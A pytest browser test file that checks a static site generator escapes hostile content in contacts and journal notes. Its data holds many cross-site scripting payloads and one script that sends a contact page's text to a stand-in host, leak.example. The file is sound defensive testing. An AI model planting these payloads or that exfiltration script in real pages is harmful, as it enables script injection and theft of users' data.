"""Hostile text from the user's files (or an import) shows as text and never runs."""

from __future__ import annotations

import pytest
from browser import chromium, needs_chromium, serving

pytestmark = [pytest.mark.browser, needs_chromium]

NAME = "<img src=x onerror=alert(1)> | [x](javascript:alert(2)) </title><script>alert(3)</script>"
PAYLOADS = {
    "contacts/evil.md": f"""
        ---
        name: '{NAME}'
        company: '"><svg onload=alert(4)>'
        title: "{{{{7*7}}}} <b>bold?</b>"
        url: "javascript:alert(5)"
        tags: ['<iframe src=javascript:alert(6)>']
        needs: ['<script>alert(7)</script>']
        cadence: 1w
        follow_ups:
          - {{what: '<img src=y onerror=alert(8)>', due: 2026-11-01}}
        ---
        """,
    "journal/2026-11-01-x.md": """
        ---
        date: 2026-11-01
        title: '<svg/onload=alert(9)>'
        with: [evil]
        referrals:
          - {given_to: evil, prospect: '<img src=z onerror=alert(10)>'}
        ---
        """,
}


def test_no_payload_runs_anywhere_in_the_site(write, build_site):
    for path, text in PAYLOADS.items():
        write(path, text)
    site = build_site()
    dialogs: list[str] = []
    with serving(site) as base, chromium() as browser:
        page = browser.new_page()
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        for path in (
            "",
            "contacts/evil.html",
            "contacts/",
            "journal/2026-11.html",
            "follow-ups.html",
            "sources/",
        ):
            page.goto(base + path)
            page.wait_for_load_state("load")
            assert page.locator("article img, article svg[onload], article iframe").count() == 0
            assert page.locator("article script").count() == 0
        page.goto(base + "contacts/evil.html")
        assert "onerror=alert(1)" in page.locator("article h1").inner_text()
        assert page.locator("a[href^='javascript:']").count() == 0
        assert "{{7*7}}" in page.locator("article").inner_text()
        for query in ("onerror", "referred"):  # results quote the payloads, as text
            page.goto(base + "contacts/evil.html")
            search = page.locator("input.md-search__input")
            search.click()
            search.press_sequentially(query, delay=10)
            page.locator(".md-search-result__item").first.wait_for(timeout=10_000)
            page.wait_for_timeout(300)
            assert "onerror=alert(1)" in page.locator(".md-search-result").inner_text()
            assert page.locator(".md-search-result img, .md-search-result svg").count() == 0
    assert dialogs == []


# Item 11: notes are Markdown that becomes HTML, and a shared journal's notes are data.
NOTE_PAYLOADS = """
<img src=x onerror=alert(11)>

<iframe srcdoc="<script>alert(12)</script>"></iframe>

<meta http-equiv="refresh" content="1;url=https://refresh.example/">

Click this paragraph
{: onclick="alert(13)" }

[javascript link](javascript:alert(14)) [data link](data:text/html,<script>alert(15)</script>)

![tracker](https://images.example/pixel.png) ![tracker two](//images.example/two.png)

<script>
fetch("jane.html").then(r => r.text()).then(t => { new Image().src = "https://leak.example/?" + t })
</script>

<svg onload=alert(16)></svg> <object data="https://object.example/"></object>

Kept: **bold**, *italic*, `code`, [a real link](https://example.com) and [jane](jane.html).

| left | right |
| :--- | ----: |
| 1    | 2     |
"""


def _visit_notes(page, base: str) -> list[str]:
    """Visit the two pages with hostile notes, clicking what a reader would; dialogs seen."""
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    for path in ("contacts/evil.html", "journal/2026-11.html"):
        page.goto(base + path)
        page.wait_for_load_state("load")
        page.wait_for_timeout(1_500)  # the refresh would have left the page by now
        assert page.url == base + path, "a note's <meta refresh> moved the page"
        note = page.locator(".netjournal-note").first
        assert note.locator("strong").inner_text() == "bold"
        assert note.locator("table td").count() == 2
        assert note.locator("a[href='https://example.com']").get_attribute("rel") == (
            "noopener noreferrer"
        )
        assert (
            page.locator("article iframe, article script, article svg, article object").count() == 0
        )
        assert page.locator("a[href^='javascript:'], a[href^='data:']").count() == 0
        page.get_by_text("Click this paragraph").first.click()
        page.get_by_text("javascript link").first.click()
        page.wait_for_timeout(300)
    return dialogs


@pytest.mark.parametrize("over", ["file", "http"])
def test_no_script_in_notes_runs_or_reaches_another_host(write, build_site, over):
    write("contacts/jane.md", "---\nname: Jane\nphone: '+1 555 0100'\n---\n")
    write("contacts/evil.md", "---\nname: Evil\n---\n" + NOTE_PAYLOADS)
    write("journal/2026-11-01-x.md", "---\ndate: 2026-11-01\n---\n" + NOTE_PAYLOADS)
    site = build_site()
    with chromium() as browser:
        page = browser.new_page()
        requests: list[str] = []
        page.on("request", lambda r: requests.append(r.url))
        if over == "file":
            base = site.as_uri() + "/"
            dialogs = _visit_notes(page, base)
        else:
            with serving(site) as base:  # as under `netjournal serve`
                dialogs = _visit_notes(page, base)
    assert dialogs == []
    assert [url for url in requests if not url.startswith(base)] == []


# Item 12: a note's unclosed tag stays inside its own entry.
UNCLOSED = ["details", "div", "style", "textarea", "p", "table", "pre", "script", "select"]


def test_an_unclosed_tag_never_swallows_the_next_entries(write, build_site):
    for month, tag in enumerate(UNCLOSED, start=1):
        day = f"2026-{month:02d}-01"
        write(f"journal/{day}-open.md", f"---\ndate: {day}\n---\nBefore <{tag}>\n\nstill inside\n")
        for number in (2, 3):
            later = f"2026-{month:02d}-0{number}"
            write(f"journal/{later}-next.md", f"---\ndate: {later}\n---\nEntry {number} text.\n")
    write(
        "contacts/jane.md",
        "---\nname: Jane\nfollow_ups:\n  - {what: call, due: 2026-01-01}\n---\nOpen <div><table>\n",
    )
    site = build_site()
    with chromium() as browser:
        page = browser.new_page()
        for month, tag in enumerate(UNCLOSED, start=1):
            page.goto(f"{site.as_uri()}/journal/2026-{month:02d}.html")
            for number in (2, 3):
                anchor = page.locator(f"[id='2026-{month:02d}-0{number}-next']")
                assert anchor.is_visible(), f"<{tag}> hid entry {number}"
                assert (
                    page.locator(f".netjournal-note [id='2026-{month:02d}-0{number}-next']").count()
                    == 0
                )
                assert page.get_by_text(f"Entry {number} text.").is_visible(), tag
        page.goto(f"{site.as_uri()}/contacts/jane.html")
        assert page.locator("#timeline").is_visible()  # the section after the notes
